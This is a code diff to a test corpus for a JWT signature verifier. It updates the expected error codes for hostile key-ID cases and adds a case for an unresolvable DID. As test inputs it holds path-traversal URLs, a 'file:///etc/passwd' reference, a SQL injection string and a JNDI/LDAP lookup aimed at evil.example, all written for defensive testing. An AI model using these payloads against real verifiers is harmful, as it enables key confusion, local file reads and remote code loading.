@@ -39,12 +39,7 @@ export async function jwsCases(w: World): Promise<CorpusCase[]> {
   };
   const unsignedNone = `${b64u(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${b64u(text)}.`;
   const fails = (code: string) => v('invalid', 'proof', 'fail', code);
-  const kidCase = (
-    name: string,
-    description: string,
-    kid: unknown,
-    code = 'ERR_KEY_UNRESOLVED',
-  ): Promise<CorpusCase> =>
+  const kidCase = (name: string, description: string, kid: unknown, code: string): Promise<CorpusCase> =>
     jws({ alg: 'EdDSA', kid, typ: 'JWT' }, payload, evil).then((content) => ({
       id: `kid/${name}`,
       description,
@@ -148,22 +143,30 @@ export async function jwsCases(w: World): Promise<CorpusCase[]> {
       'path-traversal',
       "A kid under the catalog's address that walks out of the key folder.",
       `${urls.root}issuers/${ISSUER}/keys/../../${OTHER}/keys/${harbor.kid}.json`,
+      'ERR_KEY_NOT_IN_CATALOG',
     ),
     kidCase(
       'percent-encoded-traversal',
       'The same with %2e%2e.',
       `${urls.root}issuers/${ISSUER}/keys/%2e%2e/%2e%2e/${OTHER}/keys/${harbor.kid}.json`,
+      'ERR_KEY_NOT_IN_CATALOG',
     ),
-    kidCase('query', 'A catalog kid with ?x= appended.', `${edKid}?x=1`),
-    kidCase('fragment', 'A catalog kid with #fragment appended.', `${edKid}#key-1`),
-    kidCase('very-long', 'A kid of 20,000 characters.', `${edKid}${'A'.repeat(20_000)}`),
-    kidCase('number', 'A kid that is a number, and no jwk.', 42),
-    kidCase('object', 'A kid that is an object.', { url: edKid }),
-    kidCase('file-url', 'A kid naming a local file.', 'file:///etc/passwd'),
+    kidCase('query', 'A catalog kid with ?x= appended.', `${edKid}?x=1`, 'ERR_KEY_NOT_IN_CATALOG'),
+    kidCase('fragment', 'A catalog kid with #fragment appended.', `${edKid}#key-1`, 'ERR_KEY_NOT_IN_CATALOG'),
+    kidCase(
+      'very-long',
+      'A kid of 20,000 characters.',
+      `${edKid}${'A'.repeat(20_000)}`,
+      'ERR_KEY_NOT_IN_CATALOG',
+    ),
+    kidCase('number', 'A kid that is a number, and no jwk.', 42, 'ERR_KEY_MISSING'),
+    kidCase('object', 'A kid that is an object.', { url: edKid }, 'ERR_KEY_MISSING'),
+    kidCase('file-url', 'A kid naming a local file.', 'file:///etc/passwd', 'ERR_KEY_MISSING'),
     kidCase(
       'injection',
       'A kid carrying SQL and template injection.',
       "' OR 1=1; -- ${jndi:ldap://evil.example/a}",
+      'ERR_KEY_MISSING',
     ),
     kidCase(
       'bad-did-jwk',
@@ -171,6 +174,19 @@ export async function jwsCases(w: World): Promise<CorpusCase[]> {
       'did:jwk:eyJub3QiOiJhIGtleSJ9',
       'ERR_KEY_INVALID',
     ),
+    jws(
+      { alg: 'EdDSA', kid: 'did:ion:EiAnKD8-jfdd0MDcZUjAbRgaThBrMxPTFOxcnfJhI7Ukaw', typ: 'JWT' },
+      payload,
+      evil,
+    ).then((content) => ({
+      id: 'kid/unresolvable-did',
+      description:
+        'A kid naming a DID method this verifier does not resolve: the key cannot be obtained, so the signature could not be checked (never a pass, never a failure).',
+      content,
+      ext: 'jwt',
+      expect: v('warnings', 'proof', 'warn', 'ERR_KEY_UNRESOLVED'),
+      network: { fetched: [] },
+    })),
     jws({ alg: 'EdDSA', kid: 'https://evil.example/keys/1', typ: 'JWT' }, payload, evil).then((content) => ({
       id: 'kid/external-url-offline',
       description:
@@ -217,7 +233,7 @@ export async function jwsCases(w: World): Promise<CorpusCase[]> {
         description: "An attacker's token pointing jku at its own key set: nothing is fetched.",
         content,
         ext: 'jwt',
-        expect: fails('ERR_KEY_UNRESOLVED'),
+        expect: fails('ERR_KEY_MISSING'),
         network: { fetched: [] },
       }),
     ),
